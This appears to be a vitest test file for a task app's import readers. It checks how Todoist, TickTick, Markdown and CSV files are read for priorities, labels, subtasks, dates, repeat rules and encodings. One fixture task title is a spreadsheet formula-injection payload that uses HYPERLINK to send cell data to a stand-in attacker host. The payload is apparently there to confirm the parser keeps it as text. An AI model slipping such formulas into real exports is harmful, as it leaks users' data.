/** Each app's format, read from hand-written fixtures and small lines: what each rule of the readers says. */
import { describe, expect, it } from 'vitest';
import { AppError } from '../../http/errors.ts';
import { decodeText } from './decode.ts';
import { readRule, readSpokenDate } from './dates.ts';
import { readMarkers } from './markdown.ts';
import { fixture } from './move-in.test-support.ts';
import type { ParsedFile } from './parsed.ts';
import { readPlainDate } from './plain-csv.ts';
import { detectSource, readText } from './read-upload.ts';
import { projectName, splitLabels } from './todoist.ts';

const ctx = { timeZone: 'Europe/Berlin', now: new Date('2026-03-01T09:00:00Z'), language: 'en' };

function read(name: string, text?: string): ParsedFile {
  return readText(text ?? decodeText(fixture(name)).text, name, ctx);
}

const TODOIST_HEADER = 'TYPE,CONTENT,DESCRIPTION,PRIORITY,INDENT,AUTHOR,RESPONSIBLE,DATE,DATE_LANG,TIMEZONE';

describe('Todoist', () => {
  it('reads PRIORITY 1 as p1 (its highest: the API would say 4), an empty cell as p1, 4 as p4', () => {
    const file = read(
      'p.csv',
      `${TODOIST_HEADER}\ntask,One,,1,1,,,,,\ntask,Empty,,,1,,,,,\ntask,Two,,2,1,,,,,\ntask,Four,,4,1,,,,,\ntask,Odd,,9,1,,,,,\n`,
    );
    expect(file.tasks.map((x) => [x.title, x.priority])).toEqual([
      ['One', 'p1'],
      ['Empty', 'p1'],
      ['Two', 'p2'],
      ['Four', 'p4'],
      ['Odd', 'p4'],
    ]);
  });

  it('takes @labels out of the name, but not an address', () => {
    expect(splitLabels('Mail ada@example.com about it @work @home')).toEqual({
      title: 'Mail ada@example.com about it',
      labels: ['work', 'home'],
    });
  });

  it('names a project after its file, without a backup’s id', () => {
    expect(projectName('backup/Work [2203306142].csv')).toBe('Work');
    expect(projectName('Groceries.CSV')).toBe('Groceries');
  });

  it('makes subtasks at any depth checklist items of the task above, and deeper than 5 counts as 5', () => {
    const rows = [1, 2, 3, 9, 1, 2].map((indent, i) => `task,T${i},,4,${indent},,,,,`).join('\n');
    const file = read('deep.csv', `${TODOIST_HEADER}\n${rows}\n`);
    expect(file.tasks.map((x) => [x.title, x.checklist.map((c) => c.text)])).toEqual([
      ['T0', ['T1', 'T2', 'T3']],
      ['T4', ['T5']],
    ]);
  });

  it('reads dates in their own language and zone, and keeps what it cannot read', () => {
    const file = read('todoist-home.csv');
    const due = file.tasks.map((x) => [x.title, x.dueDate, x.dueTime, x.repeat]);
    expect(due).toEqual([
      ['Renew passport', '2026-03-20', '10:30', null],
      ['Water the plants', '2026-03-02', null, 'FREQ=WEEKLY;BYDAY=MO'],
      ['Prune the roses', '2026-04-01', null, null],
      ['Trim the hedge', '2026-03-06', null, 'FREQ=WEEKLY;BYDAY=FR'],
      ['Call the plumber', null, null, null],
      ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', null, null, null],
    ]);
    expect(file.tasks[4]?.extras).toEqual([{ kind: 'note', text: '📅 on the first full moon of spring' }]);
  });
});

describe('TickTick', () => {
  const file = read('ticktick-backup.csv');
  const task = (title: string) => file.tasks.find((x) => x.title === title);

  it('reads priorities 5, 3, 1, 0 as p1 to p4', () => {
    expect(['Call the bank', 'Repot the basil', 'Weekly shop', 'Fix the office plant'].map((x) => task(x)?.priority)).toEqual(
      ['p1', 'p2', 'p3', 'p4'],
    );
  });

  it('shows instants on the task’s own zone’s wall clock; an all-day task keeps its date only', () => {
    // 08:30 UTC in Paris; 23:00 UTC on the 4th is the 5th in Paris, all day.
    expect(task('Call the bank')).toMatchObject({ dueDate: '2026-03-02', dueTime: '09:30' });
    expect(task('Repot the basil')).toMatchObject({ dueDate: '2026-03-05', dueTime: null });
  });

  it('reads a checklist’s ▫ and ▪ lines and a subtask chain as checklist items of the top task', () => {
    expect(task('Weekly shop')?.checklist).toEqual([
      { text: 'Milk', done: false },
      { text: 'Bread', done: true },
      { text: 'Eggs', done: false },
    ]);
    expect(task('Weekly shop')?.description).toBe('Before Saturday');
    expect(task('Repot the basil')?.checklist).toEqual([
      { text: 'Buy compost', done: false },
      { text: 'Pick a pot', done: true },
    ]);
  });

  it('keeps a rule Quadrant can say (its end left out and noted), and reports one it cannot', () => {
    expect(task('Send the invoice')?.repeat).toBe('FREQ=MONTHLY;BYMONTHDAY=27');
    expect(task('Every first Monday review')?.repeat).toBeNull();
    expect(file.notes.map((n) => [n.line, n.reason])).toEqual([
      [11, 'subtask-details'],
      [17, 'repeat-simplified'],
      [18, 'repeat-unread'],
      [22, 'orphan-subtask'],
    ]);
  });

  it('names a list after its folder when two folders have one of that name', () => {
    expect(file.lists.map((l) => l.name)).toContain('Garden (Work)');
  });
});

describe('rules and dates', () => {
  it('anchors a repeat rule on the due date where the rule does not say its day', () => {
    expect(readRule('RRULE:FREQ=WEEKLY;INTERVAL=2', '2026-03-04')).toEqual({
      rule: 'FREQ=WEEKLY;INTERVAL=2;BYDAY=WE',
      simplified: false,
    });
    expect(readRule('FREQ=YEARLY', '2026-02-14').rule).toBe('FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=14');
    expect(readRule('FREQ=DAILY;COUNT=5', '2026-02-14')).toEqual({ rule: 'FREQ=DAILY', simplified: true });
    expect(readRule('FREQ=DAILY', null).rule).toBeNull();
    expect(readRule('not a rule', '2026-02-14').rule).toBeNull();
  });

  it('reads spoken dates in the capture parser’s languages', () => {
    expect(readSpokenDate('every monday', 'en', ctx)).toEqual({
      due: { dueDate: '2026-03-02', dueTime: null, repeat: 'FREQ=WEEKLY;BYDAY=MO' },
      understood: true,
    });
    expect(readSpokenDate('tous les lundis', 'fr', ctx).due.repeat).toBe('FREQ=WEEKLY;BYDAY=MO');
    expect(readSpokenDate('when pigs fly', 'en', ctx).understood).toBe(false);
  });

  it('reads a spreadsheet’s dates: dots, ISO, slashes by the person’s language', () => {
    expect(readPlainDate('31.05.2026', '', ctx)?.dueDate).toBe('2026-05-31');
    expect(readPlainDate('2026/05/31', '2:30 pm', ctx)).toMatchObject({ dueDate: '2026-05-31', dueTime: '14:30' });
    expect(readPlainDate('04/05/2026', '', ctx)?.dueDate).toBe('2026-04-05');
    expect(readPlainDate('04/05/2026', '', { ...ctx, language: 'fr' })?.dueDate).toBe('2026-05-04');
    expect(readPlainDate('25/05/2026', '', ctx)?.dueDate).toBe('2026-05-25');
    expect(readPlainDate('31.02.2026', '', ctx)).toBeNull();
  });
});

describe('Markdown', () => {
  it('reads Obsidian Tasks’ markers and Quadrant’s own', () => {
    expect(readMarkers('Book the van 📅 2026-04-10 ⏫ #move')).toEqual({
      text: 'Book the van',
      priority: 'p1',
      dates: { due: '2026-04-10', done: undefined, repeat: undefined },
      labels: ['move'],
    });
    expect(readMarkers('Pay rent 🔁 every month ⏳ 2026-03-01 🔽').dates).toMatchObject({
      due: '2026-03-01',
      repeat: 'every month',
    });
    expect(readMarkers('Call mum !2 about #1 issue').priority).toBe('p2');
    expect(readMarkers('Call mum !2 about #1 issue').labels).toEqual([]);
  });

  it('reads headings as lists and nested items as checklist items', () => {
    const file = read('checklist.md');
    expect(file.lists.map((l) => l.name)).toEqual(['Before the move', 'After the move']);
    expect(file.tasks[0]?.checklist.map((c) => c.text)).toEqual(['Compare three prices', 'Ask Sam about his van', 'Deeper still']);
    expect(file.tasks.find((x) => x.title === 'Water the plants')).toMatchObject({
      dueDate: '2026-03-02',
      repeat: 'FREQ=WEEKLY;BYDAY=MO',
    });
  });
});

describe('files', () => {
  it('tells the formats apart', () => {
    expect(detectSource(`${TODOIST_HEADER}\n`, 'x.csv')).toBe('todoist');
    expect(detectSource(decodeText(fixture('ticktick-backup.csv')).text, 'backup.csv')).toBe('ticktick');
    expect(detectSource('Title,Due\n', 'list.csv')).toBe('csv');
    expect(detectSource('- [ ] milk\n', 'list')).toBe('markdown');
    expect(detectSource('anything', 'notes.md')).toBe('markdown');
    expect(() => detectSource('just words', 'blob')).toThrow(AppError);
  });

  it('decodes UTF-8 with and without its mark, UTF-16 with its mark, else Windows-1252; refuses binary', () => {
    expect(decodeText(Buffer.from('\uFEFFTitle\n', 'utf8'))).toEqual({ text: 'Title\n', encoding: 'utf-8' });
    expect(decodeText(Buffer.from('Tâche\n', 'utf8'))).toEqual({ text: 'Tâche\n', encoding: 'utf-8' });
    expect(decodeText(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Tâche\n', 'utf16le')]))).toEqual({
      text: 'Tâche\n',
      encoding: 'utf-16',
    });
    expect(decodeText(Buffer.from('Caf\xe9 \x80\n', 'latin1'))).toEqual({ text: 'Café €\n', encoding: 'windows-1252' });
    expect(() => decodeText(Buffer.from([0x41, 0x00, 0x42]))).toThrow('not a text file');
    expect(() => decodeText(Buffer.from(' \n\n'))).toThrow('empty');
  });
});
